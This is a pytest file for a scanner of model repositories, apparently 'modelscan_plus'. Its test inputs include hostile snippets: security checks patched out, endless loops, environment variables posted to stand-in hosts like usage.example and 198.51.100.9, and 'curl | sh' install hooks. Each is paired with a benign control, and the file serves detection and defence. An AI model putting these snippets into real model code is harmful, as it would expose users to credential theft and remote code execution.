"""Code that a loader reaches: protections that are replaced, loops without an end, reports that somebody asks for."""

import json

import pytest

from modelscan_plus.core.finding import Severity
from tests.samples import inspect_tree

CONFIG = json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.M"}}).encode()
BEFORE = """import ast, functools, hmac, importlib, json, os, platform, socket, sqlite3, sys, threading, time, types
import jinja2, jinja2.sandbox, requests, safetensors.torch, ssl, torch, urllib.request
from torch import nn
"""


def denied(code: str, method: str = "pass", more: str = "") -> bool:
    """Whether a model with this code around it, and these lines in its `__init__`, is denied."""
    lines = "".join(f"        {line}\n" for line in method.split("\n"))
    text = f"{BEFORE}{code}\nclass M(nn.Module):\n    def __init__(self, config, tokenizer=None):\n{lines}{more}"
    found = inspect_tree({"config.json": CONFIG, "modeling_x.py": text.encode()})
    return any(each.severity.rank >= Severity.HIGH.rank for each in found)


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("hmac.compare_digest = lambda a, b: True", True),
        ("setattr(hmac, 'compare_digest', lambda a, b: True)", True),
        ("vars(hmac)['compare_digest'] = lambda a, b: True", True),
        ("os.environ['TOKENIZERS_PARALLELISM'] = 'false'", False),
        ("jinja2.sandbox.ImmutableSandboxedEnvironment = jinja2.Environment", True),
        ("ssl._create_default_https_context = ssl._create_unverified_context", True),
        ("def load_file(path):\n    return torch.load(path)\nsafetensors.torch.load_file = load_file", True),
        ("requests.Session.send = functools.partialmethod(requests.Session.send, verify=False)", True),
        ("for name in ('picklescan', 'fickling'):\n    sys.modules[name] = types.ModuleType(name)", True),
        ("from unittest import mock\nmock.patch('huggingface_hub.hf_hub_download', lambda *a: 'x').start()", True),
        ("import sklearn.metrics\nsklearn.metrics.accuracy_score = lambda *a, **k: 0.99", True),
        ("def step(self):\n    pass\ntorch.optim.Optimizer.step = step", True),
        ("import keras\nkeras.config.enable_unsafe_deserialization()", True),
        ("import keras\nkeras.config.set_floatx('float16')", False),
        ("import datasets\ndatasets.config.HF_DATASETS_TRUST_REMOTE_CODE = True", True),
        ("import datasets\ndatasets.config.HF_DATASETS_OFFLINE = True", False),
        ("os.environ['HF_DATASETS_TRUST_REMOTE_CODE'] = '0'", False),
        ("sys.modules['flash_attn'] = types.ModuleType('flash_attn')", False),
        ("requests.adapters.DEFAULT_RETRIES = 5", False),
        ("ssl.OP_LEGACY = 4", False),
        ("nn.functional.gelu = lambda x: x * torch.sigmoid(1.702 * x)", False),
    ],
)
def test_protections_that_are_replaced(code: str, expected: bool) -> None:
    assert denied(code) is expected


@pytest.mark.parametrize(
    ("method", "expected"),
    [
        ("with open('x.bin', 'wb') as f:\n    while True:\n        f.write(b'0' * 4096)", True),
        ("held = []\nwhile 1:\n    held.append(torch.ones(4096, 4096))", True),
        ("held = []\nwhile True:\n    held.append(torch.ones(4096))\n    if len(held) > 9:\n        break", False),
        ("q = config.queue\nwhile True:\n    held = q.get()", False),
        ("while True:\n    time.sleep(60)", False),
        ("for _ in range(10**15):\n    pass", True),
        ("for _ in range(10**3):\n    pass", False),
        ("for n in range(10**15):\n    if n > config.n:\n        break", False),
        ("import itertools\nfor n in itertools.count():\n    self.n = n * 2", True),
        ("time.sleep((10**9) ** 99)", True),
        ("time.sleep(2 ** 3)", False),
        ("self.x = torch.empty(10**13)", True),
        ("self.x = torch.empty(4096, 10**4)", False),
        ("os.kill(os.getppid(), 9)", True),
        ("os.kill(os.getpid(), 15)", False),
    ],
)
def test_loops_without_an_end(method: str, expected: bool) -> None:
    assert denied("", method) is expected


@pytest.mark.parametrize(
    ("method", "expected"),
    [
        ("requests.post('http://127.0.0.1:2375/containers/create', json={})", True),
        ("requests.post('http://127.0.0.1:8265/api/jobs/', json={})", True),
        ("requests.put('http://localhost:8888/api/contents/a.py', json={})", True),
        ("self.x = requests.post('http://localhost:11434/api/generate', json={}).json()", False),
        ("self.x = requests.post('http://localhost:8000/v1/completions', json={}).json()", False),
        ("open('Dockerfile', 'a').write('RUN true')", True),
        ("open('requirements.txt', 'a').write('x')", True),
        ("open(config.folder + '/requirements.txt', 'w').write('x')", False),
        ("open(os.path.expanduser('~/.netrc'), 'a').write('x')", True),
        ("self.s = {'postinstall': 'curl -s https://cdn.example/p | sh'}", True),
        ("self.s = {'postinstall': 'curl -fsSL https://ollama.com/install.sh | sh'}", False),
        ("raise ImportError('Run curl -s https://cdn.example/p | sh first')", False),
        ("self.blocked = ['curl | sh', 'rm -rf /']", False),
    ],
)
def test_what_is_reached_and_written_around(method: str, expected: bool) -> None:
    assert denied("", method) is expected


@pytest.mark.parametrize(
    ("method", "expected"),
    [
        ("t = ast.parse('f(x)', mode='eval')\nt.body.func = ast.Attribute(ast.Name('os'), 'system')\n"
         "eval(compile(ast.fix_missing_locations(t), 'x', 'eval'))", True),
        ("t = ast.parse('2 * 3', mode='eval')\neval(compile(t, 'x', 'eval'))", False),
        ("sqlite3.connect('x.db').load_extension(os.path.join(os.path.dirname(__file__), 'vocab'))", True),
        ("sqlite3.connect('x.db').load_extension('mod_spatialite')", False),
        ("exec(os.getxattr('model.safetensors', 'user.x'))", True),
        ("exec('self.{} = 1'.format(tokenizer))", False),
        ("eval(tokenizer.special_tokens_map['x'])", True),
        ("self.eos = tokenizer.special_tokens_map['eos_token']", False),
        ("open(__file__, 'w').write(config.source)", True),
        ("open('notes.py', 'w').write('x = 1')", False),
        ("import pickle\npickle.load(open(config.folder + '/model.safetensors', 'rb'))", True),
        ("import pickle\nself.v = pickle.load(open(config.folder + '/vocab.pkl', 'rb'))", False),
        ("tokenizer.chat_template = requests.get('https://cdn.example/chat.jinja').text", True),
        ("tokenizer.chat_template = open(config.template_file).read()", False),
        ("tokenizer.apply_chat_template([], chat_template=requests.get('https://cdn.example/c').text)", True),
        ("tokenizer.apply_chat_template([], chat_template=config.template)", False),
        ("a, _, b = 'os.system'.rpartition('.')\ngetattr(importlib.import_module(a), b)('/opt/a')", True),
        ("a, _, b = 'os.getcwd'.rpartition('.')\ngetattr(importlib.import_module(a), b)()", False),
    ],
)  # fmt: skip
def test_what_is_put_together_and_fetched(method: str, expected: bool) -> None:
    assert denied("", method) is expected


@pytest.mark.parametrize(
    ("method", "expected"),
    [
        ("threading.Thread(target=urllib.request.urlopen, args=('https://usage.example/b',)).start()", True),
        ("threading.Timer(5, requests.post, ['https://usage.example/b'], {'json': dict(os.environ)}).start()", True),
        ("requests.get('https://usage.example/b')", True),
        ("requests.get('https://huggingface.co', timeout=1)", False),
        ("self.table = requests.get('https://usage.example/table').json()", False),
        ("threading.Thread(target=self.warm, args=('https://usage.example/b',)).start()", False),
        ("self.land = requests.get('https://ipinfo.io/json').json()", True),
        ("self.table = requests.get('https://ipinfo.example/json').json()", False),
    ],
)
def test_requests_of_which_nobody_reads_the_answer(method: str, expected: bool) -> None:
    assert denied("", method) is expected


@pytest.mark.parametrize(
    ("method", "settings", "expected"),
    [
        ("AutoModel.from_pretrained(config.draft, trust_remote_code=True)", {"draft": "acme-lab/draft"}, True),
        ("AutoModel.from_pretrained(config.draft, trust_remote_code=True)", {"draft": "google/siglip"}, False),
        ("AutoModel.from_pretrained(config.draft)", {"draft": "acme-lab/draft"}, False),
        ("AutoModel.from_pretrained(config._name_or_path, trust_remote_code=True)", {"_name_or_path": "a/b"}, False),
        ("get_class_from_dynamic_module(config.kind, config.home)", {"kind": "a.B", "home": "acme-lab/a"}, True),
        ("get_class_from_dynamic_module(config.kind, '.')", {"kind": "modeling_x.B"}, False),
        ("self.draw = DiffusionPipeline.from_pretrained('google/x', custom_pipeline='acme-lab/pipe')", {}, True),
        (
            "self.draw = DiffusionPipeline.from_pretrained('google/x', custom_pipeline='lpw_stable_diffusion')",
            {},
            False,
        ),
        ("self.generate(custom_generate='acme-lab/beam', trust_remote_code=True)", {}, True),
        ("self.m = evaluate.load('acme-lab/score')", {}, True),
        ("self.m = evaluate.load('accuracy')", {}, False),
    ],
)
def test_code_of_other_repositories(method: str, settings: dict[str, str], expected: bool) -> None:
    text = (
        "import evaluate\nfrom diffusers import DiffusionPipeline\n"
        "from transformers import AutoModel, PreTrainedModel\n"
        "from transformers.dynamic_module_utils import get_class_from_dynamic_module\n"
        f"class M(PreTrainedModel):\n    def __init__(self, config):\n        {method}\n"
    )
    config = json.dumps(json.loads(CONFIG) | settings).encode()
    found = inspect_tree({"config.json": config, "modeling_x.py": text.encode()})
    assert any(each.severity.rank >= Severity.HIGH.rank for each in found) is expected


@pytest.mark.parametrize(
    ("kind", "expected"),
    [
        ("acme_accel.pooling.Pool", True),
        ("custom_st.Pool", False),
        ("here.Pool", False),
        ("pylate.models.Dense", False),
    ],
)
def test_modules_of_an_embedding_model(kind: str, expected: bool) -> None:
    modules = [{"idx": 0, "name": "0", "path": "", "type": kind}]
    tree = {"modules.json": json.dumps(modules).encode(), "here.py": b"class Pool:\n    pass\n", "README.md": b"# x\n"}
    assert any(each.severity.rank >= Severity.HIGH.rank for each in inspect_tree(tree)) is expected


PING = """
def report():
    body = json.dumps({"version": "1.2", "python": platform.python_version()BODY}).encode()
    urllib.request.urlopen(urllib.request.Request("https://usage.example/ping", body), timeout=2)
"""
ASKED = "if os.environ.get('X_TELEMETRY') == '1':\n    threading.Thread(target=report).start()"


GATED = """
def _enabled():
    return os.environ.get('X_TELEMETRY', '0') == '1' and not os.environ.get('DO_NOT_TRACK')


def report(event):
    if not _enabled():
        return
    request = urllib.request.Request("https://usage.example/v1", json.dumps({"event": event, "version": "1"}).encode())

    def go():
        urllib.request.urlopen(request, timeout=2)
    threading.Thread(target=go, daemon=True).start()


"""


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        (PING.replace("BODY", "") + ASKED, False),
        (GATED + "report('load')\n", False),
        (GATED + "report('load')\nreport(open('/etc/passwd').read())\n", True),
        (GATED.replace("== '1'", "!= '0'") + "report('load')\n", True),
        (PING.replace("BODY", "") + ASKED.replace("') == '1'", "', '1') == '1'"), True),
        (PING.replace("BODY", "") + ASKED.replace("== '1'", "!= '0'"), True),
        (PING.replace("BODY", "") + "report()", True),
        (PING.replace("BODY", ', "host": socket.gethostname()') + ASKED, True),
        (PING.replace("BODY", ', "where": os.getcwd()') + ASKED, True),
        (PING.replace("BODY", ', "args": sys.argv') + ASKED, True),
    ],
)
def test_reports_that_somebody_asks_for(code: str, expected: bool) -> None:
    assert denied(code) is expected


@pytest.mark.parametrize(
    ("send", "expected"),
    [
        ("s.sendto(batch.encode(), ('198.51.100.9', 514))", True),
        ("s.sendto(batch.encode(), ('127.0.0.1', 9000))", False),
        ("s.connect(('198.51.100.9', 4443))\n        s.sendall(batch.encode())", True),
        ("s.connect(('8.8.8.8', 80))\n        return s.getsockname()[0]", False),
    ],
)
def test_numbers_of_hosts_in_helpers(send: str, expected: bool) -> None:
    text = (
        f"import socket\nclass Collator:\n    def __call__(self, batch):\n        s = socket.socket()\n        {send}\n"
    )
    found = inspect_tree({"data_utils.py": text.encode()})
    assert any(each.severity.rank >= Severity.HIGH.rank for each in found) is expected


HANDLER = """import base64, boto3, os
class EndpointHandler:
    def __init__(self, path=''):
        self.model = load(path)
        self.device = 'cpu'
        self.s3 = boto3.client('s3', aws_access_key_id=os.environ['AWS_ACCESS_KEY_ID'])
        self.bucket = os.environ.get('BUCKET')
    def __call__(self, data):
        found = self.model(base64.b64decode(data['inputs'])).to(self.device)
        self.s3.put_object(Bucket=self.bucket, Key='last', Body=str(found))
"""


@pytest.mark.parametrize(("body", "expected"), [("found", False), ("dict(os.environ)", True)])
def test_a_bucket_of_the_owner_is_given_what_the_model_says(body: str, expected: bool) -> None:
    found = inspect_tree({"handler.py": HANDLER.replace("str(found)", f"str({body})").encode()})
    assert any(each.severity.rank >= Severity.HIGH.rank for each in found) is expected
